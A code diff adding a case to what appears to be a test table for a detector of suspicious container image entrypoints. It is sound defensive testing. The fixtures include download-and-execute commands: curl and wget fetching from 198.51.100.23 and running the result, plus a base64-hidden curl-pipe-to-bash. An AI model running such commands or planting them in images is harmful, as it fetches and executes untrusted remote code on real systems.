@@ -22,6 +22,10 @@ ruleTable(imageSuspiciousEntrypoint, {
         { subject, severity: 'high', says: 'curl -fsSL http://198.51.100.23/mac.sh | sh', offers: ['image.remove'] },
       ],
     },
+    'fetched, marked and started, without a shell behind it': {
+      ...starts(['sh', '-c', 'wget http://198.51.100.23/m -O /opt/m; chmod +x /opt/m; /opt/m']),
+      finds: [{ subject, severity: 'high' }],
+    },
     'hidden in base64': {
       ...starts(['sh', '-c', 'echo Y3VybCBodHRwOi8vMTk4LjUxLjEwMC4yMy9hLnNoIHwgYmFzaA== | base64 -d | sh']),
       finds: [{ subject }],
